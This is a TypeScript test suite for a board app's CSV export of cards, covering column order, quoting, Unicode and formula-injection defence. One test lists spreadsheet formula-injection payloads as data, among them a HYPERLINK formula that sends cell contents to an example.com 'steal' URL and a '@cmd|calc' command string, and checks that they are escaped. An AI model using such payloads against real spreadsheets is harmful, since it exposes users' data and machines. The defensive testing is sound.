// The cards as CSV: one row per card in board order, quoted by Papa Parse (RFC 4180), safe to
// open in a spreadsheet (no formula runs), Unicode intact.
import { parse } from 'papaparse';
import type { BoardArchive } from '../../../src/domain/boardArchive';
import { buildBoardArchive, cardsCsv, CSV_COLUMNS } from '../../../src/features/transfer/export';
import { makeBoard, makeCard, makeList } from '../boardFixtures';
import { checklistHeading } from '../../../src/features/transfer/checklistHeading';
import { EXPORTED_AT, richBoard } from './exportFixtures';

const BOM = '\uFEFF';

/** The file read back as a spreadsheet would: rows of cells. */
function rowsOf(csv: string): string[][] {
  expect(csv.startsWith(BOM)).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  // The file ends with a line break: no row after it.
  const result = parse<string[]>(csv.slice(BOM.length), { newline: '\r\n', skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

/** An archive of one list with one card per title (and description). */
function archiveOf(
  cards: { title: string; description?: string }[],
  listTitle = 'List',
): BoardArchive {
  return buildBoardArchive({
    board: makeBoard(),
    lists: [makeList('l', 'a0', { title: listTitle })],
    cards: cards.map(({ title, description = '' }, i) =>
      makeCard(`c${i}`, 'l', `a${i}`, { title, description }),
    ),
    commentsByCard: {},
    now: EXPORTED_AT,
  });
}

describe('cardsCsv', () => {
  it('has a header and one row per card, archived ones included, in board order', () => {
    const rows = rowsOf(cardsCsv(buildBoardArchive({ ...richBoard(), now: EXPORTED_AT })));
    expect(rows).toEqual([
      [...CSV_COLUMNS],
      ['To do', 'Kick-off', '', '', '', 'no', 'no', '', '', '0', '', ''],
      [
        'To do',
        'Write brief',
        'First line\nSecond line, with "quotes"',
        // An unnamed label by its colour's name.
        'Urgent; Green',
        '2024-05-01',
        'yes',
        'no',
        '2 of 3',
        'Ada Lovelace; Grace Hopper',
        '3',
        '',
        '',
      ],
      ['To do', 'Dropped', '', '', '', 'no', 'yes', '', '', '0', '', ''],
      // Archived through its list.
      [
        'Old ideas',
        'Open card in an archived list',
        '',
        '',
        '2023-01-09',
        'no',
        'yes',
        '',
        '',
        '0',
        '',
        '',
      ],
      ['Done', 'Ship it', '', 'Later', '', 'no', 'no', '', '', '0', '', ''],
    ]);
  });

  it('ends with the start day, after the columns files had before it', () => {
    const archive = archiveOf([{ title: 'Launch' }], 'To do');
    archive.lists[0]!.cards[0]!.start = '2026-12-03';
    const [header, row] = rowsOf(cardsCsv(archive));
    expect(header?.at(-1)).toBe('Start');
    expect(row?.at(-1)).toBe('2026-12-03');
  });

  it('quotes commas, quotes and line breaks, and keeps every character', () => {
    const strange = [
      { title: 'Commas, and more, commas' },
      { title: 'She said "hi"', description: '"Quoted" start and end "' },
      { title: 'Two\nlines', description: 'Windows\r\nline\rbreaks' },
      { title: ' padded ' },
      { title: 'Ünïcödé ✓ 看板 🚀 עברית', description: 'e\u0301 (combining) and ﬁ ligature' },
      { title: 'Tab\tinside' },
    ];
    const csv = cardsCsv(archiveOf(strange, 'List; with "semi"'));
    expect(csv).toContain('"Commas, and more, commas"');
    expect(csv).toContain('"She said ""hi"""');
    expect(csv).toContain('"Two\nlines"');
    const rows = rowsOf(csv).slice(1);
    expect(rows.map((row) => row[1])).toEqual(strange.map((card) => card.title));
    expect(rows.map((row) => row[2])).toEqual(strange.map((card) => card.description ?? ''));
    expect(rows.every((row) => row[0] === 'List; with "semi"')).toBe(true);
  });

  it('makes text that a spreadsheet would run as a formula plain text, with a leading apostrophe', () => {
    const dangerous = [
      '=HYPERLINK("http://example.com/steal?"&A1, "Click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
      // Papa Parse's own pattern misses these: its `.*$` stops at a line break.
      '=1+1\nsecond line',
      '@cmd\r\n|calc',
    ];
    const rows = rowsOf(
      cardsCsv(archiveOf(dangerous.map((title) => ({ title, description: title })))),
    ).slice(1);
    expect(rows.map((row) => row[1])).toEqual(dangerous.map((title) => `'${title}`));
    expect(rows.map((row) => row[2])).toEqual(dangerous.map((title) => `'${title}`));
  });

  it('leaves text that only contains those characters, or starts with anything else, as it is', () => {
    const safe = ['a=b', 'Price: -5', "'already quoted", ' =padded', '＝fullwidth'];
    const rows = rowsOf(cardsCsv(archiveOf(safe.map((title) => ({ title }))))).slice(1);
    expect(rows.map((row) => row[1])).toEqual(safe);
  });

  it('guards label, list and assignee names too', () => {
    const archive = archiveOf([{ title: 'Card' }], '=list');
    archive.board.labels = [{ id: 'x', name: '-label', color: 'red' }];
    archive.lists[0]!.cards[0]!.labelIds = ['x'];
    archive.lists[0]!.cards[0]!.assignees = [{ name: '@someone', email: 'someone@example.com' }];
    const [, row] = rowsOf(cardsCsv(archive));
    expect(row![0]).toBe("'=list");
    expect(row![3]).toBe("'-label");
    expect(row![8]).toBe("'@someone");
  });

  it('is only the header for a board without cards', () => {
    const rows = rowsOf(cardsCsv(archiveOf([])));
    expect(rows).toEqual([[...CSV_COLUMNS]]);
  });

  it('counts checklist progress without the headings between imported Trello checklists', () => {
    const archive = archiveOf([{ title: 'Launch' }]);
    archive.lists[0]!.cards[0]!.checklist = [
      { text: checklistHeading('Design'), done: false },
      { text: 'Sketch', done: true },
      { text: checklistHeading('Build'), done: false },
      { text: 'Code', done: false },
      { text: 'Test', done: true },
    ];
    const [, row] = rowsOf(cardsCsv(archive));
    expect(row![7]).toBe('2 of 3');
  });

  it('says a card of an archived list is archived: it is out of sight on the board', () => {
    const archive = archiveOf([{ title: 'Hidden with its list' }]);
    archive.lists[0]!.archived = true;
    const [, row] = rowsOf(cardsCsv(archive));
    expect(row![6]).toBe('yes');
  });
});
